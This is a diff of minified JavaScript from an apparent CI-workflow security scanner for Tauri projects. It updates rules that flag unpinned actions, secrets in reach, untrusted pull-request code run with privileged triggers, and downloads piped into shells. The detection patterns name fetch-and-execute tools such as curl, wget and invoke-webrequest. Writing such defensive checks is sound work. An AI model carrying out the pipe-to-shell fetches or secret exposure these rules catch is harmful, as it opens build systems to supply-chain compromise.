 setting28={name:"resource",rule:"bundle/file-shipped",covers:RESOURCE_KEYS,compares:(project,platform)=>resourceFiles(project,platform).flatMap(({files})=>files.
@@ -9130,46 +9203,54 @@ setting44.name,granted2,platforms)))}function platformsOf2(setting44){const only
 (0,import_shared_aceps.platformSet)(...only2)}function grantedOn(platform,{platforms,inConfiguration:inConfiguration8},project){return platforms?.includes(platform)===
 !1?[]:inConfiguration8?.(project,platform)??[]}function grantOf3(setting44,granted2,platforms){return{domain:"config",kind:"setting",setting:setting44,isWhole:!1,
 comesWith:null,heededBy:null,weighs:null,content:null,cause:null,...granted2,platforms}}function partsOnPlatforms(project){return(0,import_shared_aceps.onEachPlatform)(
-platform=>partsOf13(project,platform)).map(([part,platforms])=>({domain:"config",kind:"part",...part,platforms}))}function jobGrant({name,secrets},answer2){return{
-domain:"steps",machine:"job",by:name,entry:"",class:"reaches",secrets,...answer2}}var OWN_TOKEN="GITHUB_TOKEN",ANY3=/\btoJSON\(\s*secrets\s*\)|\bsecrets\[\s*[^'"\\\s]/i;
-function secretsIn(value){if(value===void 0)return[];const text3=JSON.stringify(plain(value)),named12=[...text3.matchAll(/\bsecrets(?:\.(\w+)|\[\s*\\?['"](\w+)\\?['"]\s*\])/g)].
-map(([,one3,other])=>one3??other??""),all=expressionsIn(text3).some(each=>ANY3.test(each))?["all secrets"]:[];return[...new Set([...named12,...all])].filter(name=>name!==
-OWN_TOKEN&&!/^github_token$/i.test(name)).sort()}var MOST4=64;function textsOf3(value,job){const text3=asString(value);if(text3===void 0)return[];const[expression,
-path]=/\$\{\{\s*matrix\.([\w.-]+)\s*\}\}/.exec(text3)??[];if(expression===void 0||path===void 0)return[text3];const name=path.split(".").at(-1)??"",given2=valuesNamed(
-pick(job.value,"strategy","matrix"),name).slice(0,MOST4);return given2.length===0?[text3]:given2.map(each=>text3.replace(expression,()=>each))}function valuesNamed(value,name){
-return value?.kind==="array"?value.items.flatMap(item=>valuesNamed(item,name)):value?.kind!=="object"?[]:[...value.entries].flatMap(([key3,{value:inner}])=>key3===
-name&&inner.kind!=="object"?textsIn4(inner):valuesNamed(inner,name))}function textsIn4(value){return value.kind==="array"?value.items.flatMap(textsIn4):value.kind===
-"string"?[value.value]:[]}var FIRST_PARTY=/^(?:actions|github|tauri-apps)\/(?![^@]*@refs\/pull\/)/i,PINNED2=/@[\da-f]{40}$|@sha256:[\da-f]{64}$/i;function unpinnedIn(job){
-const{value,steps}=job;return[...[value,...steps].flatMap(step=>actionsIn(step,job)),...imagesIn(job),...steps.flatMap(step=>checkoutsIn(step,job))]}function actionsIn(step,job){
-const uses=member(step,"uses");return textsOf3(uses,job).flatMap(written6=>uses===void 0||written6.startsWith("./")||FIRST_PARTY.test(written6)?[]:PINNED2.test(
+platform=>partsOf14(project,platform)).map(([part,platforms])=>({domain:"config",kind:"part",...part,platforms}))}function jobGrant({name,secrets},answer2){return{
+domain:"steps",machine:"job",by:name,entry:"",class:"reaches",secrets,...answer2}}var OWN_TOKEN="GITHUB_TOKEN",ANY3=/\btoJSON\(\s*secrets\s*\)|\bsecrets(?:\s*\[\s*[^'"\\\s]|\.\*)/i,
+NAMED2=/\bsecrets(?:\.(\w+)|\[\s*\\?['"](\w+)\\?['"]\s*\])/gi;function secretsIn(value){if(value===void 0)return[];const text3=JSON.stringify(plain(value)).replaceAll(
+/\\[nrt]/g," "),expressions2=expressionsIn(text3).map(plainNames),named12=[text3,...expressions2].flatMap(each=>[...each.matchAll(NAMED2)].map(([,one3,other])=>one3??
+other??"")),all=expressions2.some(each=>ANY3.test(each))?["all secrets"]:[];return[...new Set([...named12,...all])].filter(name=>name!==OWN_TOKEN&&!/^github_token$/i.
+test(name)).sort()}var MOST4=64;function textsOf4(value,job){const text3=asString(value);if(text3===void 0)return[];const[expression,path]=/\$\{\{\s*matrix\.([\w.-]+)\s*\}\}/.
+exec(text3)??[];if(expression===void 0||path===void 0)return[text3];const name=path.split(".").at(-1)??"",given2=valuesNamed(pick(job.value,"strategy","matrix"),
+name).slice(0,MOST4);return given2.length===0?[text3]:given2.map(each=>text3.replace(expression,()=>each))}function valuesNamed(value,name){return value?.kind===
+"array"?value.items.flatMap(item=>valuesNamed(item,name)):value?.kind!=="object"?[]:[...value.entries].flatMap(([key3,{value:inner}])=>key3===name&&inner.kind!==
+"object"?textsIn4(inner):valuesNamed(inner,name))}function textsIn4(value){return value.kind==="array"?value.items.flatMap(textsIn4):value.kind==="string"?[value.
+value]:[]}var FIRST_PARTY=/^(?:actions|github|tauri-apps)\/(?![^@]*@refs\/pull\/)/i,PINNED2=/@[\da-f]{40}$|@sha256:[\da-f]{64}$/i;function unpinnedIn(job){const{
+value,steps}=job;return[...[value,...steps].flatMap(step=>actionsIn(step,job)),...imagesIn(job),...steps.flatMap(step=>checkoutsIn(step,job))]}function actionsIn(step,job){
+const uses=member(step,"uses");return textsOf4(uses,job).flatMap(written6=>uses===void 0||written6.startsWith("./")||FIRST_PARTY.test(written6)?[]:PINNED2.test(
 written6)||!/[/@]/.test(written6)?[]:[{name:nameIn6(written6),written:`uses: ${written6}`,step,uses}])}function imagesIn(job){const services=member(job.value,"s\
-ervices"),beside=services?.kind==="object"?[...services.entries.values()].map(({value})=>value):[];return[member(job.value,"container"),...beside].flatMap(of2=>{
-const uses=of2?.kind==="string"?of2:member(of2,"image");return textsOf3(uses,job).flatMap(image=>of2===void 0||uses===void 0||image===""||PINNED2.test(image)||isKeptImage(
-image)?[]:[{name:nameIn6(`docker://${image}`),written:`image: ${image}`,step:of2,uses}])})}function checkoutsIn(step,job){if(!/^actions\/checkout@/.test(asString(
-member(step,"uses"))??""))return[];const of2=member(step,"with"),uses=member(of2,"repository"),isPinned=/^[\da-f]{40}$/i.test(asString(member(of2,"ref"))??"");return textsOf3(
-uses,job).flatMap(repository=>uses===void 0||isPinned||repository.includes("${{")?[]:[{name:`checkout ${repository.toLowerCase()}`,written:`repository: ${repository}`,
-step,uses}])}function nameIn6(written6){return(written6.startsWith("docker://")?written6.replace(/:[^:/]*$/,""):written6.split("@",1)[0]??"").toLowerCase()}function actionGrants(job){
+ervices"),beside=services?.kind==="object"?[...services.entries.values()].map(({value})=>value):[],own=member(job.value,"runs");return[member(job.value,"contain\
+er"),...beside,own].flatMap(of2=>{const uses=of2?.kind==="string"?of2:member(of2,"image");return textsOf4(uses,job).filter(text3=>of2!==own||text3.startsWith("d\
+ocker://")).map(text3=>text3.replace(/^docker:\/\//,"")).flatMap(image=>of2===void 0||uses===void 0||image===""||PINNED2.test(image)||isKeptImage(image)?[]:[{name:nameIn6(
+`docker://${image}`),written:`image: ${image}`,step:of2,uses}])})}function checkoutsIn(step,job){if(!/^actions\/checkout@/i.test(asString(member(step,"uses"))??
+""))return[];const of2=member(step,"with"),uses=member(of2,"repository"),isPinned=/^[\da-f]{40}$/i.test(asString(member(of2,"ref"))??"");return textsOf4(uses,job).
+flatMap(repository=>uses===void 0||isPinned||repository.includes("${{")?[]:[{name:`checkout ${repository.toLowerCase()}`,written:`repository: ${repository}`,step,
+uses}])}function nameIn6(written6){return(written6.startsWith("docker://")?written6.replace(/:[^:/]*$/,""):written6.split("@",1)[0]??"").toLowerCase()}function actionGrants(job){
 return unpinnedIn(job).map(({name,written:written6,step,uses})=>jobGrant(job,{rule:"build/action-unpinned",act:name,text:written6,at:uses.at,secrets:[...new Set(
 [...job.wide,...secretsIn(step)])]}))}var FILES10=[{name:"a workflow",role:"workflow",coverage:"in part",why:"Read for configurations that it hands to Tauri, un\
 pinned actions and tools, tokens, secrets, and code of strangers beside them. The rest is for linters.",samples:[".forgejo/workflows/a.yml"],knownAs:[".github",
-"workflows"],is:byPath({test:isWorkflow}),wants:isWorkflow}],WRITTEN=/\bgithub\.(?:head_ref|event(?![.\w])|event\.(?:issue|comment|review|review_comment|discussion)(?:\.(?:title|body)|(?![.\w]))|event\.pull_request(?:\.(?:title|body|head\.(?:ref|label|repo\.\w+))|(?:\.head)?(?![.\w]))|event\.pages\S*?page_name|event\.head_commit\.(?:message|author\.\w+)|event\.commits\S*?\.(?:message|author\.\w+)|event\.workflow_run\.(?:head_branch|head_commit\.\S+|display_title))/g,
-HANDED_ON2=/\b(?:env\.[\w-]+|steps\.[\w-]+\.outputs\.[\w-]+|inputs\.[\w-]+)/g,ASKED2=/(?<![\w.*-])(?:'[^']*'|[\w.*-]+)\s*(?:[=!<>]=|[<>])\s*(?:'[^']*'|[\w.*-]+)|\b(?:contains|startsWith|endsWith)\([^()]*\)|(?<![\w.*-])[\w.*-]+(?=\s*&&)/g;
-function plainNames(text3){return text3.replace(/\[\s*(['"])([\w-]+)\1\s*\]/g,".$2")}function writtenIn(text3,job,step){const named12=expressionsIn(text3).flatMap(
-inner=>{const given2=plainNames(inner).replace(ASKED2," "),handedOn3=[...given2.matchAll(HANDED_ON2)].filter(([name])=>isWritten(name,job,step));return[...given2.
-matchAll(WRITTEN),...handedOn3].map(([name])=>name)});return[...new Set(named12)]}function isWritten(name,job,step){const[context2,id=""]=name.split(".");if(context2===
-"inputs")return job.given.has(id.toLowerCase());const source=context2==="env"?variable5(id,[step,job.value,job.workflow]):job.steps.filter(each=>asString(member(
-each,"id"))===id).map(each=>JSON.stringify(plain(each))).join(`
-`);return names3(source)||context2==="env"&&[...job.given].some(input=>source.includes(`inputs.${input}`))}function names3(source){return expressionsIn(source).
-some(inner=>plainNames(inner).replace(ASKED2," ").match(WRITTEN)!==null)}function variable5(name,levels){const found12=levels.map(level=>asString(member(member(
-level,"env"),name)));return plainNames(found12.find(each=>each!==void 0)??"")}function withCalled(relevant,all){const byPath2=Map.groupBy(all,({path,value,workflow})=>value===
-workflow?folderOf(path):path),found12=new Map(relevant.map(job=>[job.key,job])),todo=[...relevant];for(let job=todo.pop();job!==void 0;job=todo.pop())for(const step of[
-job.value,...job.steps]){const path=calledPath(step);for(const called3 of path===void 0?[]:byPath2.get(path)??[]){const known13=found12.get(called3.key)??called3,
-next2=calledBy(job,step,known13);found12.has(called3.key)&&next2===known13||(found12.set(called3.key,next2),todo.push(next2))}}return[...found12.values()]}function calledPath(step){
-const uses=asString(member(step,"uses"));return uses?.startsWith("./")?joined("",uses.replace(/\/+$/,""))??void 0:void 0}function calledBy(caller,step,called3){
-const triggers=new Set([...called3.triggers,...caller.triggers]),given2=new Set([...called3.given,...writtenInputs(caller,step)]),isTrusted2=called3.isTrusted||
-caller.isTrusted;return triggers.size===called3.triggers.length&&given2.size===called3.given.size&&isTrusted2===called3.isTrusted?called3:{...called3,triggers:[
-...triggers],given:given2,isTrusted:isTrusted2}}function writtenInputs(caller,step){const inputs=member(step,"with");return inputs?.kind!=="object"?[]:[...inputs.
-entries].flatMap(([name,{value}])=>writtenIn(asString(value)??"",caller,step).length>0?[name.toLowerCase()]:[])}var PRIVILEGED=/^(?:pull_request_target|workflow_run|issue_comment|issues|discussion|discussion_comment|pull_request_review|pull_request_review_comment|fork|watch)$/,
+"workflows"],is:byPath({test:isWorkflow}),wants:isWorkflow}],WRITTEN=/(?<![\w.-])github(?![\w.-])|\bgithub\.(?:\*|head_ref|event(?![.\w])|event\.\*|event\.(?:issue|comment|review|review_comment|discussion)(?:\.(?:title|body|\*)|(?![.\w]))|event\.pull_request(?:\.(?:title|body|\*|head\.(?:ref|label|\*|repo\.[\w*]+))|(?:\.head)?(?![.\w]))|event\.pages|event\.commits(?!\[\d+\]\.(?:id|timestamp|tree_id|url)\b)|event\.head_commit(?:\.(?:message|author|\*)|(?![.\w]))|event\.workflow_run(?:\.(?:head_branch|head_commit|display_title|\*)|(?![.\w])))/gi,
+HANDED_ON2=/\b(?:env\.[\w-]+|(?:steps|needs)\.[\w-]+\.outputs\.[\w-]+|inputs\.[\w-]+)/gi,ASKED2=/((?<![\w.*-])(?:'[^']*'|[\w.*-]+)\s*(?:[=!<>]=|[<>])\s*(?:'[^']*'|[\w.*-]+)|\b(?:contains|startsWith|endsWith)\([^()]*\)|(?<![\w.*-])[\w.*-]+(?=\s*&&))|'[^']*'/gi;
+function namesIn8(expression){return plainNames(expression).replace(ASKED2,(_3,asked4)=>asked4===void 0?"''":" ")}function writtenIn(text3,job,step){const named12=expressionsIn(
+text3).flatMap(inner=>{const given2=namesIn8(inner),handedOn3=handedOnIn(given2).filter((name,i2)=>i2>=MOST_NAMES2||isWritten(name,job,step));return[...given2.match(
+WRITTEN)??[],...handedOn3]});return[...new Set(named12)]}function isWritten(name,job,step){const[context2="",id=""]=name.toLowerCase().split(".");if(context2===
+"inputs")return job.given.has(id)||names3(defaultOf2(name,job));const source=sourceOf7(name,job,step);return names3(source)||context2==="env"&&[...job.given].some(
+input=>source.toLowerCase().includes(`inputs.${input}`))}function defaultOf2(name,job){return asString(pick(job.workflow,"inputs",name.split(".")[1]??"","defaul\
+t"))??""}var MOST_NAMES2=100;function handedOnIn(text3){return[...new Set(plainNames(text3).match(HANDED_ON2))]}function sourceOf7(name,job,step){const[context2="",
+id="",,output2=""]=name.split(".");if(/^env$/i.test(context2))return variable5(id,[step,job.value,job.workflow]);if(/^steps$/i.test(context2))return stepsNamed(
+id,job.steps);const needed2=pick(job.workflow,"jobs",id),text3=plainNames(asString(pick(needed2,"outputs",output2))??""),steps=itemsOf(member(needed2,"steps")),
+ids=[...text3.matchAll(/\bsteps\.([\w-]+)\.outputs\b/gi)].map(([,each=""])=>each);return[text3,...new Set(ids.map(each=>stepsNamed(each,steps)))].join(`
+`)}function stepsNamed(id,steps){return steps.filter(each=>asString(member(each,"id"))?.toLowerCase()===id.toLowerCase()).map(each=>plainNames(JSON.stringify(plain(
+each)))).join(`
+`)}function names3(source){return expressionsIn(source).some(inner=>namesIn8(inner).match(WRITTEN)!==null)}function variable5(name,levels){const found12=levels.
+map(level=>asString(member(member(level,"env"),name)));return plainNames(found12.find(each=>each!==void 0)??"")}function withCalled(relevant,all){const byPath2=Map.
+groupBy(all,({path,value,workflow})=>value===workflow?folderOf(path):path),found12=new Map(relevant.map(job=>[job.key,job])),todo=[...relevant];for(let job=todo.
+pop();job!==void 0;job=todo.pop())for(const step of[job.value,...job.steps]){const path=calledPath(step);for(const called4 of path===void 0?[]:byPath2.get(path)??
+[]){const known13=found12.get(called4.key)??called4,next2=calledBy(job,step,known13);found12.has(called4.key)&&next2===known13||(found12.set(called4.key,next2),
+todo.push(next2))}}return[...found12.values()]}function calledPath(step){const uses=asString(member(step,"uses"));return uses?.startsWith("./")?joined("",uses.replace(
+/\/+$/,""))??void 0:void 0}function calledBy(caller,step,called4){const triggers=new Set([...called4.triggers,...caller.triggers]),given2=new Set([...called4.given,
+...writtenInputs(caller,step)]),isTrusted2=called4.isTrusted||caller.isTrusted;return triggers.size===called4.triggers.length&&given2.size===called4.given.size&&
+isTrusted2===called4.isTrusted?called4:{...called4,triggers:[...triggers],given:given2,isTrusted:isTrusted2}}function writtenInputs(caller,step){const inputs=member(
+step,"with");return inputs?.kind!=="object"?[]:[...inputs.entries].flatMap(([name,{value}])=>writtenIn(asString(value)??"",caller,step).length>0?[name.toLowerCase()]:
+[])}var PRIVILEGED=/^(?:pull_request_target|workflow_run|issue_comment|issues|discussion|discussion_comment|pull_request_review|pull_request_review_comment|fork|watch)$/,
 OF_FORKS=/^pull_request/;function isPrivileged(triggers){return triggers.some(each=>PRIVILEGED.test(each))}function isOfForks(triggers){return triggers.some(each=>OF_FORKS.
 test(each))}var MOST_JOBS=300;function jobsIn(files){const inputsOf=inputsOfWorkflows(files),jobs=files.flatMap(file2=>{const parsed10=parseFile(file2);if(!parsed10.
 ok)return[];const makers=new Map(makersOfWorkflow(file2,parsed10.value,inputsOf).map(maker2=>[maker2.key,maker2]));return jobsOf(file2,parsed10.value,makers)}),
@@ -9189,39 +9270,39 @@ kind!=="object"?[]:[...permissions2.entries].flatMap(([scope,{value}])=>asString
 const found12=known10.get(job);if(found12!==void 0)return found12;const budget=new Budget,own=(job.maker?.parts??[]).flatMap(({script,start})=>commandsRun(script,
 start,budget)).filter(({path})=>path===job.path);return known10.set(job,own),own}var USUAL4=/^(?:(?:nix (?:develop|shell)|arch -\w+|xvfb-run|devbox run|micromamba run)\b[^"'`;|&]*\s)?(?:bash|sh|zsh|pwsh|powershell|cmd|python3?|nu|fish|msys2|wsl-bash|Rscript|node|alpine\.sh|cpa\.sh)(?:\.exe)?(?:\s+(?:--?(?!c\b|command\b|init-file|rcfile)[\w-]+|[a-z]+(?=\s)|\/\w+(?::\w+)?))*(?:\s+["']?\{0\}["']?)?\s*$/i,
 LONGEST12=200;function otherShells(job){const defaults=[job.workflow,job.value].map(level=>pick(level,"defaults","run","shell")),own=job.steps.map(step=>member(
-step,"shell"));return[...defaults,...own].flatMap(shell=>textsOf3(shell,job).flatMap(text3=>shell===void 0||text3.length<=LONGEST12&&USUAL4.test(text3)?[]:[[text3,
+step,"shell"));return[...defaults,...own].flatMap(shell=>textsOf4(shell,job).flatMap(text3=>shell===void 0||text3.length<=LONGEST12&&USUAL4.test(text3)?[]:[[text3,
 shell]]))}var OWN_CLI=/^(?:(?:npm|pnpm|yarn|bun)(?: run| exec| x)?(?: --\S+)* tauri|(?:npx|bunx|deno task|cargo|cargo-)[ -]?tauri|tauri)(?: --)?$/;function replacedGrants2(job){
 const written6=[job.workflow,job.value,...job.steps].flatMap(level=>[...variablesIn5(level,job),...scriptIn(level,job)]),shells=otherShells(job).map(([text3,{at:at2}])=>replaced(
 `shell: ${text3}`,at2,job));return[...written6,...shells,...variablesOfCommands(job)]}function variablesIn5(level,job){const env=member(level,"env");return env?.
 kind!=="object"?[]:[...env.entries].flatMap(([name,{value}])=>{const said2=asString(value)??"";return replacesProgram(name,said2)?[replaced(`${name}: ${said2}`,
-value.at,job)]:[]})}function variablesOfCommands(job){return commandsOf4(job).flatMap(ran=>{const at2={path:job.path,line:ran.line,column:1,endLine:ran.line};return variablesSet(
-ran).flatMap(([name,value])=>replacesProgram(name,value)&&ran.source.includes(name==="PATH"?"PATH":`${name}=`)?[replaced(`${name}: ${value}`,at2,job)]:[])})}function scriptIn(step,job){
-if(!isTauriAction(asString(member(step,"uses"))??""))return[];const script=member(member(step,"with"),"tauriScript"),said2=asString(script)?.trim()??"";return script===
-void 0||said2===""||OWN_CLI.test(said2)?[]:[replaced(`tauriScript: ${said2}`,script.at,job)]}function replaced(text3,at2,job){return jobGrant(job,{rule:"build/t\
-ool-replaced",act:text3,text:text3,at:at2})}var OF_HEAD=/github\.(?:head_ref|event\.pull_request\.(?:head|merge_commit_sha|number)|event\.workflow_run\.(?:head_\w+|pull_requests)|event\.issue\.number|event\.number)|refs\/pull\//;
+value.at,job)]:[]})}function variablesOfCommands(job){return commandsOf4(job).flatMap(ran=>{const at2={path:job.path,line:ran.line,column:1,endLine:ran.line},texts2=[
+ran.source,ran.fedBy??"",...ran.inputs];return variablesSet(ran).flatMap(([name,value])=>replacesProgram(name,value)&&texts2.some(text3=>text3.includes(name==="\
+PATH"?"PATH":`${name}=`))?[replaced(`${name}: ${value}`,at2,job)]:[])})}function scriptIn(step,job){if(!isTauriAction(asString(member(step,"uses"))??""))return[];
+const script=member(member(step,"with"),"tauriScript"),said2=asString(script)?.trim()??"";return script===void 0||said2===""||OWN_CLI.test(said2)?[]:[replaced(`\
+tauriScript: ${said2}`,script.at,job)]}function replaced(text3,at2,job){return jobGrant(job,{rule:"build/tool-replaced",act:text3,text:text3,at:at2})}var OF_HEAD=/github\.(?:\*|head_ref|event(?![.\w])|event\.\*|event\.pull_request(?:\.(?:head|merge_commit_sha|number|\*)|(?![.\w]))|event\.workflow_run\.(?:head_\w+|pull_requests|\*)|event\.issue\.number|event\.number)|(?<![\w./-])github(?![\w./-])|\bheadRef(?:Oid|Name)\b|refs\/pull\//i;
 function takenIn(job){return job.steps.flatMap(step=>checkoutIn(step,job)??artifactIn(step,job)??[])}function checkoutIn(step,job){const uses=asString(member(step,
-"uses"))??"",levels=[step,job.value,job.workflow],ref=["ref","repository"].map(name=>member(member(step,"with"),name)).find(each=>OF_HEAD.test(asked3(each,levels)));
-if(/^actions\/checkout@|\/checkout@/.test(uses)&&ref!==void 0)return{what:"checkout",text:`${uses} with ref: ${asString(ref)??""}`,at:ref};const run=member(step,
-"run");return run?.kind==="string"&&isCheckedOutByHand(run.value,levels)?{what:"checkout",text:lineWith(run,/gh pr checkout|git /),at:run}:void 0}function asked3(value,levels){
-const text3=plainNames(asString(value)??""),names4=[...text3.matchAll(/\benv\.(\w+)/g)].map(([,name=""])=>variable5(name,levels));return[text3,...names4].join("\
- ")}function isCheckedOutByHand(script,levels){return/\bgh pr checkout\b/.test(script)?!0:script.split(`
+"uses"))??"",levels=[step,job.value,job.workflow],ref=["ref","repository"].map(name=>member(member(step,"with"),name)).find(each=>OF_HEAD.test(asked3(each,job,step)));
+if(/\/checkout@/i.test(uses)&&ref!==void 0)return{what:"checkout",text:`${uses} with ref: ${asString(ref)??""}`,at:ref};const run=member(step,"run");return run?.
+kind==="string"&&isCheckedOutByHand(run.value,levels)?{what:"checkout",text:lineWith(run,/gh pr checkout|git /),at:run}:void 0}function asked3(value,job,step){const text3=plainNames(
+asString(value)??""),names4=handedOnIn(text3);return names4.length>MOST_NAMES2?"refs/pull/":[text3,...names4.map(name=>sourceOf7(name,job,step))].join(" ")}function isCheckedOutByHand(script,levels){
+return/\bgh pr checkout\b/.test(script)?!0:script.split(`
 `).some(line=>{if(!/\bgit\b.*\b(?:fetch|pull|checkout|switch|merge|reset|worktree)\b/.test(line))return!1;const names4=[...line.matchAll(/\$\{?(?:env:)?(\w+)/g)].
 map(([,name=""])=>variable5(name,levels));return[plainNames(line),...names4].some(text3=>OF_HEAD.test(text3)||/\bpull\/|head_ref|head\./.test(text3))})}function artifactIn(step,{
 triggers}){if(!triggers.includes("workflow_run"))return;const uses=member(step,"uses"),name=asString(uses)??"",isOfRun=member(member(step,"with"),"run-id")!==void 0||
-!name.startsWith("actions/");if(uses!==void 0&&/download-artifact@/.test(name)&&isOfRun)return{what:"artifact",text:`uses: ${name}`,at:uses};const code2=member(
-step,"run")??member(member(step,"with"),"script");return code2!==void 0&&BY_HAND.test(asString(code2)??"")?{what:"artifact",text:lineWith(code2,BY_HAND),at:code2}:
-void 0}var BY_HAND=/\bgh run download\b|\bdownloadArtifact\b|\/artifacts\/\S*\/zip\b/;function lineWith(value,pattern){const text3=asString(value)??"";return(text3.
-split(`
+!/^actions\//i.test(name);if(uses!==void 0&&/download-artifact@/i.test(name)&&isOfRun)return{what:"artifact",text:`uses: ${name}`,at:uses};const code2=member(step,
+"run")??member(member(step,"with"),"script");return code2!==void 0&&BY_HAND.test(asString(code2)??"")?{what:"artifact",text:lineWith(code2,BY_HAND),at:code2}:void 0}
+var BY_HAND=/\bgh run download\b|\bdownloadArtifact\b|\/artifacts\/\S*\/zip\b/;function lineWith(value,pattern){const text3=asString(value)??"";return(text3.split(
+`
 `).find(line=>pattern.test(line))??text3).trim().slice(0,160)}function untrustedGrants(job){return[...isPrivileged(job.triggers)?taken2(job):[],...texts(job),...machines(
 job)]}function taken2(job){return takenIn(job).map(({what,text:text3,at:at2})=>what==="checkout"?answer(job,"checkout of the head",text3,at2.at):{...answer(job,
 "artifact of the head",text3,at2.at),class:job.isTrusted?"unknown":"probe"})}function texts(job){const{triggers}=job;return isPrivileged(triggers)||isOfForks(triggers)||
-triggers.includes("push")?job.steps.flatMap(step=>{const uses=asString(member(step,"uses"))??"",code2=member(step,"run")??(uses.startsWith("actions/github-scrip\
-t@")?member(member(step,"with"),"script"):void 0);return code2?.kind!=="string"?[]:writtenIn(code2.value,job,step).map(name=>answer(job,`text ${name}`,lineNaming(
-code2.value,name),placeOf4(code2,name)))}):[]}function machines(job){const on3=member(job.value,"runs-on");return on3===void 0||!isOfForks(job.triggers)?[]:[on3,
-...itemsOf(on3),...itemsOf(member(on3,"labels"))].flatMap(each=>textsOf3(each,job)).some(label=>/\bself-hosted\b/.test(label))?[{...answer(job,"a machine of one\
-'s own","runs-on: self-hosted",on3.at),class:"unknown"}]:[]}function answer(job,act,text3,at2){const isGrave=isPrivileged(job.triggers)&&job.isTrusted,named12=isGrave?
-`${act}, with secrets or a token`:act;return jobGrant(job,{rule:"build/untrusted-code-with-secrets",act:named12,text:text3,at:at2,of:job.key,class:isGrave?"reac\
-hes":"probe"})}function lineNaming(text3,name){return(text3.split(`
+triggers.includes("push")?job.steps.flatMap(step=>{const uses=asString(member(step,"uses"))??"",code2=member(step,"run")??(/^actions\/github-script@/i.test(uses)?
+member(member(step,"with"),"script"):void 0);return code2?.kind!=="string"?[]:writtenIn(code2.value,job,step).map(name=>answer(job,`text ${name}`,lineNaming(code2.
+value,name),placeOf4(code2,name)))}):[]}function machines(job){const on3=member(job.value,"runs-on");return on3===void 0||!isOfForks(job.triggers)?[]:[on3,...itemsOf(
+on3),...itemsOf(member(on3,"labels"))].flatMap(each=>textsOf4(each,job)).some(label=>/\bself-hosted\b/.test(label))?[{...answer(job,"a machine of one's own","ru\
+ns-on: self-hosted",on3.at),class:"unknown"}]:[]}function answer(job,act,text3,at2){const isGrave=isPrivileged(job.triggers)&&job.isTrusted,named12=isGrave?`${act}\
+, with secrets or a token`:act;return jobGrant(job,{rule:"build/untrusted-code-with-secrets",act:named12,text:text3,at:at2,of:job.key,class:isGrave?"reaches":"p\
+robe"})}function lineNaming(text3,name){return(text3.split(`
 `).find(line=>plainNames(line).includes(name))??text3).trim().slice(0,160)}function placeOf4(code2,name){const line=code2.value.split(`
 `).findIndex(each=>plainNames(each).includes(name)),{at:at2}=code2;return line<=0||at2.endLine-at2.line<line?at2:{...at2,line:at2.line+line,column:1,endLine:at2.
 line+line}}function secretGrants(job){const rule="build/secret-in-reach",wide=job.wide.map(name=>jobGrant(job,{rule,act:`${name} in the whole job`,text:`env: ${name}`,
@@ -9257,22 +9338,25 @@ first).toLowerCase();if(fedBy!==null&&FETCHES.test(fedBy)&&SHELL8.test(program2)
 test(program2))&&!/^(?:python3?|node)$/.test(program2)&&FETCHES.test(source))return`pipe ${ADDRESS4.exec(source)?.[0]??source}`;if(program2==="deno"&&rest2[0]===
 "run"){const from=rest2.find(word2=>/^(?:https?|npm|jsr):/.test(word2));return from===void 0?void 0:`deno ${from}`}if(/^(?:docker|podman)$/.test(program2))return imageRun(
 rest2);if(/^(?:curl|wget2?|aria2c|iwr|invoke-webrequest|start-bitstransfer)$/.test(program2))return fetched(ran);const open=toolsIn(program2,rest2)?.find(name=>!isExact(
-name,program2));return open===void 0?void 0:`${program2} ${nameOf5(open)}`}var WITH_VALUE=/^(?:-[aehlmpuvw]|--(?:volume|workdir|env|env-file|user|name|platform|network|entrypoint|mount|publish|memory|cpus|hostname|label|add-host|device|cap-add|security-opt|shm-size|tmpfs|gpus|pull))$/;
+name,program2));return open===void 0?void 0:`${program2} ${nameOf6(open)}`}var WITH_VALUE=/^(?:-[aehlmpuvw]|--(?:volume|workdir|env|env-file|user|name|platform|network|entrypoint|mount|publish|memory|cpus|hostname|label|add-host|device|cap-add|security-opt|shm-size|tmpfs|gpus|pull))$/;
 function imageRun([command2="",...words4]){if(!/^(?:run|pull|create)$/.test(command2))return;const image=words4.find((word2,i2)=>!word2.startsWith("-")&&!WITH_VALUE.
 test(words4[i2-1]??""));if(!(image===void 0||isKeptImage(image)||/@sha256:/.test(image)))return`docker ${isKnown(image)?image.replace(/:[^:/]*$/,""):"of a compu\
-ted name"}`}function fetched({source,words:words4,targets:targets3}){const address=words4.find(word2=>ADDRESS4.test(word2)),isKept=targets3.length>0||/^(?:wget|aria2c)/.
-test(words4[0]??"")||KEEPS.test(source);return address===void 0||/\d\.\d|api\.github\.com|\.json\b/.test(address)||!isKept?void 0:`fetch ${address}`}var KEEPS=/\s(?:-[a-zA-Z]*[oO]\b|--output\b|--remote-name|-OutFile\b|-Destination\b)/;
+ted name"}`}function fetched({source,words:words4,targets:targets3}){const isKept=targets3.length>0||/^(?:wget|aria2c)/.test(words4[0]??"")||KEEPS.test(source),
+open=words4.find(word2=>ADDRESS4.test(word2)&&!isVersioned(word2));return open===void 0||!isKept?void 0:`fetch ${open}`}function isVersioned(address){const[,host="",
+path=""]=/https?:\/\/([^/?#]*)([^?#]*)/i.exec(address)??[];return/\d\.\d|\.json$/.test(path)||host.toLowerCase()==="api.github.com"}var KEEPS=/\s(?:-[a-zA-Z]*[oO]\b|--output\b|--remote-name|-OutFile\b|-Destination\b)/;
 function withoutStarter(words4){if(!/^(?:sudo|env|command|exec|nohup|time)$/.test(words4[0]??""))return words4;const at2=words4.findIndex((word2,i2)=>i2>0&&!/^-|^\w+=/.
 test(word2));return at2<0?words4:withoutStarter(words4.slice(at2))}function toolsIn(program2,words4){const operands=words4.filter(word2=>!word2.startsWith("-")),
-[command2=""]=operands,has4=(...flags2)=>words4.some(word2=>flags2.includes(word2.split("=",1)[0]??""));if(/^(?:npx|bunx|pnpx)$/.test(program2))return has4("-y",
-"--yes","-p","--package")||/@/.test(command2.slice(1))?operands.slice(0,1):void 0;if(program2==="uvx")return operands.slice(0,1);if(/^(?:pnpm|yarn)$/.test(program2)&&
-command2==="dlx")return operands.slice(1,2);if(/^(?:npm|pnpm|yarn|bun)$/.test(program2)&&(has4("-g","--global")||command2==="global"))return/^(?:i|install|add|global)$/.
-test(command2)?operands.slice(command2==="global"?2:1):void 0;if(/^(?:pip3?|pipx)$/.test(program2)&&command2==="install")return has4("-r","--requirement","--req\
-uire-hashes","-e")?void 0:operands.slice(1);if(/^python3?$/.test(program2)&&words4[0]==="-m"&&words4[1]==="pip"&&words4[2]==="install")return has4("-r","--requi\
-rement")?void 0:operands.slice(2);if(program2==="cargo"&&/^(?:install|binstall)$/.test(command2))return has4("--locked","--version","--vers","--path","--frozen")?
